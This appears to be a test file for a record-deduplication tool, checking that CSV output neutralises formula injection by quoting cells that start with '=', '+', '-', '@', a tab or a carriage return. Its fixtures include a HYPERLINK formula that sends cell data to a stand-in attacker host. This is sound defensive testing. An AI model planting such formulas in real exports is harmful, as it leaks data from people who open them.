/**
 * CSV (formula) injection (security audit): a cell Corridor writes that begins with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is written with a leading `'`, in `corridor dedupe --out`
 * and every other CSV writer (they share src/domain/csv-cell.ts).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { dedupeCsv } from '../src/cli/commands/dedupe.js';
import { neutraliseCsvCell } from '../src/domain/csv-cell.js';

test('dedupe --out writes ids that look like formulas as text', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'corridor-csv-'));
  try {
    const input = join(dir, 'in.csv');
    writeFileSync(
      input,
      [
        'id,given_name,father_name,grandfather_name,family_name,sex,birth_year',
        '"=HYPERLINK(""http://evil.example/?x=""&A1)",أحمد,محمد,حسن,الحلبي,ذكر,1980',
        '@SUM(1+1),Ahmad,Mohamad,,al-Halabi,m,1981',
        '+cmd,Omar,Mohammed,Hassan,Halabi,m,1986',
        '-2+3,Zainab,Khaled,,Qasim,f,',
        'p5,زينب,خالد,,قاسم,f,2001',
      ].join('\n'),
    );
    const out = join(dir, 'pairs.csv');
    await dedupeCsv({ csv: input, out, explain: true });
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    assert.ok(rows.length >= 2, 'pairs were written');
    for (const row of rows)
      for (const [column, cell] of Object.entries(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column}: ${cell}`);
    const ids = rows.flatMap((r) => [r.id_a, r.id_b]);
    assert.ok(ids.includes(`'=HYPERLINK("http://evil.example/?x="&A1)`), ids.join(' | '));
    assert.ok(ids.includes(`'@SUM(1+1)`));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the cell rule: formula starts get a quote, plain numbers and ordinary text do not', () => {
  for (const bad of ['=1+1', '+1+1', '-1+1', '@A1', '\t=1', '\r=1', '-', '=']) assert.equal(neutraliseCsvCell(bad), `'${bad}`);
  for (const ok of ['-3.25', '12', '+7', 'Ahmad', 'أحمد', '', "'=already"]) assert.equal(neutraliseCsvCell(ok), ok);
});
